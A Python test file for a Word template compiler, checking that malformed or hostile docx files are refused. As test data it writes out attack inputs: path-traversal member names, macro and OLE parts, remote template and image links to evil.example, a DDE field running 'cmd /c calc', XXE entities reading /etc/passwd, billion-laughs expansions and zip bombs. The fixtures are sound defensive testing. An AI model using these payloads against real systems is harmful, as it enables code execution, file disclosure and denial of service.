# Licence LGPL-3 (see LICENSE).
"""Files that are refused whatever their text says."""

import struct
import zipfile
import zlib
from dataclasses import dataclass

import pytest
from docx_tools import PACKAGE, WORD, R, docx, members_of, p, part, zipped
from hypothesis import given
from hypothesis import strategies as st
from itcom_core.documents import FileRefused, archive, check_template, compile_template
from itcom_core.documents.archive import OLE_SIGNATURE


@dataclass(frozen=True)
class Sample:
    name: str = "x"


def refusal(content):
    """:return: the error that refuses the file."""
    with pytest.raises(FileRefused) as caught:
        compile_template(content)
    assert [error.code for error in check_template(content, Sample())] == [caught.value.code]
    return caught.value


def changed(**members):
    """:return: bytes of a docx some of whose members are others (None: left out)."""
    names = {"types": "[Content_Types].xml", "document": "word/document.xml"}
    content = members_of(p("{{ name }}"))
    for key, value in members.items():
        name = names.get(key, key)
        if value is None:
            del content[name]
        else:
            content[name] = value(content.get(name, "")) if callable(value) else value
    return zipped(content)


def with_name(old, new):
    """:return: bytes of a docx with the name of a member overwritten; a zip's names end at 0."""
    return docx(p("x")).replace(old, new)


def with_relations(*relations):
    """:return: bytes of a docx whose document has these relations (XML)."""
    rels = '<Relationships xmlns="%srelationships">%s</Relationships>' % (
        PACKAGE,
        "".join(relations),
    )
    return changed(**{"word/_rels/document.xml.rels": rels})


def relation(kind, target, mode=' TargetMode="External"'):
    """:return: XML of one relation."""
    return '<Relationship Id="x1" Type="%s/%s" Target="%s"%s/>' % (R, kind, target, mode)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "archive"),
        (b"plain text", "archive"),
        (b"PK\x03\x04" + b"\x00" * 100, "archive"),
        (b"PK\x05\x06" + b"\x00" * 18, "content_type"),
        (OLE_SIGNATURE + b"\x00" * 600, "old_format"),
        (zipped({"a.txt": "x"}), "content_type"),
        (
            changed(types=lambda t: t.replace("document.main", "template.main")),
            "content_type",
        ),
        (changed(types="<Types/>"), "content_type"),
        (changed(types="no xml"), "xml"),
        (changed(document=None), "part"),
        (changed(document=lambda text: text[:-5]), "xml"),
        (changed(document="<w:document xmlns:w='urn:other'/>"), "namespace"),
        (changed(document="<a>" * 400 + "</a>" * 400), "xml"),
        (changed(**{"../evil.xml": "<a/>"}), "part_name"),
        (changed(**{"/etc/passwd": "x"}), "part_name"),
        (changed(**{"word//x.xml": "<a/>"}), "part_name"),
        (with_name(b"_rels/.rels", b"\x00" * 11), "part_name"),
        (changed(**{"WORD/document.xml": "<a/>"}), "part_name"),
    ],
)
def test_not_a_docx(content, reason):
    error = refusal(content)
    assert (error.code, error.params["reason"]) == ("not_a_docx", reason)


def test_damaged_member():
    content = bytearray(zipped(members_of(p("x")), zipfile.ZIP_STORED))
    content[content.index(b"<w:body>") + 1] ^= 1
    assert refusal(bytes(content)).params["reason"] == "damaged"


def test_member_that_is_cut_short_at_its_very_end():
    content = bytearray(docx(p("x")))
    start = content.index(b"PK\x01\x02") + 20
    length = int.from_bytes(content[start : start + 4], "little")
    content[start : start + 4] = (length - 1).to_bytes(4, "little")
    assert refusal(bytes(content)).params["reason"] == "damaged"


def test_other_ways_of_packing():
    content = zipped(members_of(p("x")), zipfile.ZIP_BZIP2)
    assert refusal(content).params["reason"] == "method"


def test_password_protected():
    ole = OLE_SIGNATURE + b"\x00" * 600 + "EncryptedPackage".encode("utf-16-le")
    assert refusal(ole).code == "encrypted"
    content = bytearray(docx(p("x")))
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert refusal(bytes(content)).code == "encrypted"


@pytest.mark.parametrize(
    "content",
    [
        changed(**{"word/vbaProject.bin": "x"}),
        changed(
            types=lambda text: text.replace(
                WORD + "document.main", "application/vnd.ms-word.document.macroEnabled.main"
            )
        ),
        changed(
            types=lambda text: text.replace(
                "</Types>",
                '<Override PartName="/word/x.bin" '
                'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        ),
        changed(
            types=lambda text: text.replace(
                "</Types>",
                '<Default Extension="bin" '
                'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        ),
        changed(**{"word/activeX/activeX1.xml": "<a/>"}),
        changed(**{"word/embeddings/oleObject1.bin": "x"}),
        with_relations(relation("oleObject", "embeddings/x.bin", "")),
        with_relations(relation("aFChunk", "x.html", "")),
        with_relations(relation("control", "x.xml", "")),
    ],
)
def test_programs(content):
    assert refusal(content).code == "macros"


@pytest.mark.parametrize(
    "content",
    [
        with_relations(relation("attachedTemplate", "http://evil.example/x.dotm")),
        with_relations(relation("image", "http://evil.example/pixel.png")),
        with_relations(relation("subDocument", "file:///etc/passwd")),
        with_relations(relation("frame", "\\\\evil\\share")),
        with_relations(relation("hyperlink", "file:///etc/passwd")),
        with_relations(relation("hyperlink", "javascript:alert(1)")),
        changed(
            document=lambda text: text.replace(
                "<w:p>",
                "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/x.png\" '/>",
            )
        ),
        changed(
            document=lambda text: text.replace(
                "<w:p>",
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
                "<w:instrText> DDE</w:instrText></w:r><w:r>"
                '<w:instrText>AUTO cmd "/c calc"</w:instrText></w:r>',
            )
        ),
    ],
)
def test_external_content(content):
    assert refusal(content).code == "external_content"


def test_links_may_stay():
    content = with_relations(
        relation("hyperlink", "https://example.org/?a=1"),
        relation("hyperlink", "mailto:a@example.org").replace("x1", "x2"),
    )
    result = compile_template(content).render(Sample())
    assert b"example.org" in part(result, "word/_rels/document.xml.rels")


UCS_4 = "<?xml version='1.0' encoding='UCS-4'?>"
LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha">%s]>' % "".join(
    '<!ENTITY %s "%s">' % (b, "&%s;" % a * 10) for a, b in zip("abcdefgh", "bcdefghi")
)


@pytest.mark.parametrize(
    "content",
    [
        changed(document=lambda text: LAUGHS + text.replace("{{ name }}", "&i;")),
        changed(document=lambda text: ("\ufeff" + LAUGHS + text).encode("utf-16-le")),
        changed(document=lambda text: ("\ufeff" + LAUGHS + text).encode("utf-16-be")),
        changed(document=lambda text: (UCS_4 + LAUGHS + text).encode("utf-32-be")),
        changed(document=lambda text: '<!DOCTYPE w SYSTEM "file:///etc/passwd">' + text),
        changed(
            **{
                "word/styles.xml": '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                "<w>&x;</w>"
            }
        ),
        changed(types=lambda text: LAUGHS + text),
    ],
)
def test_document_types(content):
    assert refusal(content).code == "forbidden_xml"


def empty_parts(count):
    return zipped({"%d.xml" % number: "" for number in range(count)}, zipfile.ZIP_STORED)


@pytest.mark.parametrize(
    ("limit", "content"),
    [
        ("archive", b"PK\x03\x04" + b"\x00" * archive.MAX_ARCHIVE),
        ("parts", empty_parts(archive.MAX_PARTS + 1)),
        ("parts", empty_parts(3 * archive.MAX_PARTS)),
        ("part", zipped({"word/document.xml": b"\x00" * (archive.MAX_PART + 1)})),
        ("ratio", zipped({"word/document.xml": b"\x00" * (archive.MAX_PART - 1)})),
        ("total", zipped({"%d.bin" % i: b"\x00" * (archive.MAX_PART - 1) for i in range(4)})),
    ],
)
def test_bombs(limit, content):
    error = refusal(content)
    assert (error.code, error.params["limit"]) == ("file_too_large", limit)


def test_bomb_that_lies_about_its_size_is_not_unpacked():
    content = bytearray(zipped({"word/document.xml": b"\x00" * archive.MAX_PART}))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = content.index(signature) + offset
        content[start : start + 4] = struct.pack("<L", 100)
    assert refusal(bytes(content)).params["reason"] == "damaged"


@given(st.binary(max_size=300))
def test_any_bytes_are_refused_by_name(content):
    refusal(content)


@given(st.data())
def test_any_damage_is_refused_by_name_or_harmless(data):
    content = bytearray(docx(p("{{ name }}")))
    for _ in range(data.draw(st.integers(1, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    try:
        compile_template(bytes(content)).render(Sample())
    except FileRefused as error:
        assert error.code


def test_members_that_stay_are_copied_as_they_were_packed():
    picture = bytes(range(256)) * 50
    result = compile_template(changed(**{"word/media/a.bin": picture})).render(Sample())
    assert part(result, "word/media/a.bin") == picture
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    assert packer.compress(picture) + packer.flush() in result
